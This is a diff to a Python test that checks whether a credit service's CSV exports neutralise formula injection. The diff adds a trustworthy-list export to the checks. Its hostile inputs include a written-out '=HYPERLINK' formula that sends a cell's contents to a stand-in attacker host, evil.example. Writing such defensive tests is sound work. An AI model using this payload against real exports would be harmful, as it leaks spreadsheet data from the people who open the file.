@@ -3,8 +3,9 @@ no cell may start a formula (OWASP CSV injection), whatever the public put into 
 
 The CSV routes are found in the URL map (every GET route whose rule names csv), so a new
 export that this file does not walk fails here. Hostile text reaches each export the way
-an attacker would put it there: an entity's name (the public list, the tiers, an
-inspection plan), an inspector's name, and a sign-in attempt's user name (the audit trail).
+an attacker would put it there: an entity's name (the public list, the trustworthy list,
+the tiers, an inspection plan), an inspector's name, and a sign-in attempt's user name
+(the audit trail).
 """
 
 from __future__ import annotations
@@ -21,7 +22,7 @@ from credit_service.config import Settings
 from credit_service.inspections import services as inspection_services
 from credit_service.tiers import services as tier_services
 from credit_service.web import create_app
-from tests.factories import CITY, create_entity, create_person, listed_on
+from tests.factories import CITY, create_entity, create_person, file_award, listed_on
 
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?"&B2,"open")',
@@ -70,6 +71,7 @@ def neutralised(rows: list[list[str]]) -> set[str]:
 CSV_ROUTES = _csv_routes()
 WALKED = {
     "/api/v1/public/dishonesty-list/export.csv",
+    "/api/v1/public/trustworthy-list/export.csv",
     "/api/v1/tiers/export.csv",
     "/api/v1/inspection-plans/<int:plan_id>/export.csv",
     "/api/v1/public/inspection-plans/export.csv",
@@ -100,6 +102,8 @@ def hostile_world(ctx, client, auth):  # type: ignore[no-untyped-def]
         )
         assert made.status_code == 201, made.get_data(as_text=True)
     names = [create_entity(ctx, region_code=CITY, name=n)["identifier"] for n in HOSTILE]
+    for identifier in names:  # honoured: on the trustworthy list
+        file_award(ctx, identifier)
     plan = client.post(
         "/api/v1/inspection-plans",
         json={
@@ -125,6 +129,7 @@ def test_no_csv_cell_starts_a_formula(client, auth, hostile_world, db_kind):
     regulator, plan = hostile_world["regulator"], hostile_world["plan"]
     exports = {  # each streamed answer is read before the next request
         "public list": read_cells(client.get("/api/v1/public/dishonesty-list/export.csv")),
+        "trustworthy list": read_cells(client.get("/api/v1/public/trustworthy-list/export.csv")),
         "tiers": read_cells(client.get("/api/v1/tiers/export.csv", headers=regulator)),
         "inspection plan": read_cells(
             client.get(f"/api/v1/inspection-plans/{plan}/export.csv", headers=regulator)
